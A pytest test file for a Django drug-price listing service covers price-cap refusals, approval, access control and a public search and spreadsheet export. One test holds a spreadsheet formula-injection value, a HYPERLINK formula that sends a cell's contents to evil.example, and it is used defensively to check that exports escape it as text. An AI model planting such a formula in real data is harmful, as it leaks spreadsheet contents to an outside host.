"""The listing API (a refusal carries the cap, its source and the figures) and the public page."""

import io
import uuid
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from listings.choices import ListingCategory
from tests.factories import ProductFactory

pytestmark = pytest.mark.django_db


def test_a_declaration_above_its_cap_is_refused_with_the_figures(world, product, feed, api_as):
    feed(product.code, "11", "9.00")
    client = api_as(world.user("manufacturer_clerk"))
    response = client.post(
        reverse("api:declaration-list"),
        {"product_code": product.code, "category": ListingCategory.NOT_PREVIOUSLY_LISTED, "price": "9.01"},
    )
    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert (error["field"], error["rule"], error["code"]) == ("price", "R-LIST-2", "above_cap")
    assert error["params"]["cap"] == "9.0000" and error["params"]["kind"] == "national_lowest"
    assert error["params"]["limits"][0]["province"] == "北京市"
    created = client.post(
        reverse("api:declaration-list"),
        {"product_code": product.code, "category": ListingCategory.NOT_PREVIOUSLY_LISTED, "price": "9.00"},
    )
    assert created.status_code == 201 and created.json()["status"] == "submitted"


def test_the_bureau_approves_over_the_api_and_the_listing_is_public(world, product, feed, api_as, api_client, declare):
    feed(product.code, "11", "9.00")
    declaration = declare(product, ListingCategory.NOT_PREVIOUSLY_LISTED, "8.50")
    response = api_as(world.user("provincial_reviewer")).post(
        reverse("api:declaration-approve", args=[declaration.pk]), {"reason": "合规"}
    )
    assert response.json()["status"] == "approved"
    api_client.logout()
    listed = api_client.get(reverse("api:listing-list"), {"q": product.code}).json()["results"]
    assert [(item["product_code"], item["price"], item["unit_price"]) for item in listed] == [
        (product.code, "8.5000", "1.2143")
    ]


def test_other_manufacturers_do_not_see_my_declarations(world, product, declare, api_as):
    declaration = declare(product, ListingCategory.NOT_PREVIOUSLY_LISTED, "8.50")
    other = api_as(world.user("other_manufacturer_clerk"))
    assert other.get(reverse("api:declaration-detail", args=[declaration.pk])).status_code == 404
    assert other.get(reverse("api:declaration-list")).json()["count"] == 0
    assert api_as(world.user("city_bureau")).get(reverse("api:declaration-list")).json()["count"] == 0


def test_the_public_page_searches_and_exports(world, product, list_product, client):
    list_product(product, "12.60")
    page = client.get(reverse("public:public-list"), {"q": "atfts"}).content.decode()
    assert product.code in page and "¥12.60" in page and "¥1.80" in page
    export = client.get(reverse("public:public-export"), {"q": "atfts"})
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [(row[0], Decimal(str(row[8]))) for row in rows] == [(product.code, Decimal("12.6"))]


def test_the_public_page_reads_a_page_of_listings_without_a_query_a_row(
    world, product, list_product, client, django_assert_max_num_queries
):
    """信息公开: every column the page shows comes with its listings (only those are read: bench/search.py)."""
    # given three listed products of two manufacturers
    list_product(product, "12.60")
    for price in ("20.00", "30.00"):
        list_product(ProductFactory(manufacturer=world.manufacturer, trade_name="立普妥"), price)
    client.get(reverse("public:public-list"))  # the session, caches
    # when a visitor opens the page
    # count, page, national lowest, manufacturers, the companies under a credit warning (R-SUP-3)
    with django_assert_max_num_queries(5) as queries:
        page = client.get(reverse("public:public-list")).content.decode()
    # then each row shows its product, pack, maker, category, prices
    assert len(queries) == 5, [query["sql"][:80] for query in queries]
    assert product.code in page and product.pack_description in page and "¥12.60" in page and "¥1.80" in page
    assert "立普妥" in page and world.manufacturer.name in page and str(ListingCategory.INNOVATIVE.label) in page


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_the_public_export_writes_a_hostile_trade_name_as_text_never_a_formula(world, product, list_product, client):
    product.trade_name = FORMULA
    product.save()
    list_product(product, "12.60")
    export = client.get(reverse("public:public-export"))
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    cell = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == product.code)[2]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


# Issue 11 #6: the anonymous export is bounded.
def test_the_anonymous_export_is_limited_per_address(world, product, list_product, client, settings):
    settings.PUBLIC_EXPORT_RATE = "2/h"
    list_product(product, "12.60")
    url = reverse("public:public-export")
    address = f"10.77.{uuid.uuid4().int % 250}.{uuid.uuid4().int % 250}"  # counts of earlier runs never reach it
    first, second, third = (client.get(url, REMOTE_ADDR=address) for _ in range(3))
    assert first.status_code == second.status_code == 200
    assert third.status_code == 429 and "Retry-After" in third


def test_the_export_stops_at_its_row_limit(world, product, list_product, client, settings):
    settings.PUBLIC_EXPORT_MAX_ROWS = 2
    for other in [
        product,
        ProductFactory(manufacturer=world.manufacturer),
        ProductFactory(manufacturer=world.manufacturer),
    ]:
        list_product(other, "9.90")
    export = client.get(reverse("public:public-export"))
    sheet = load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    assert len(list(sheet.iter_rows(min_row=2))) == 2


@pytest.mark.parametrize("category", [*ListingCategory.values, "unknown"])
def test_a_listings_category_label_is_djangos_display(category):
    from listings.models import Listing

    listing = Listing(category=category)
    assert str(listing.category_label) == str(listing.get_category_display())
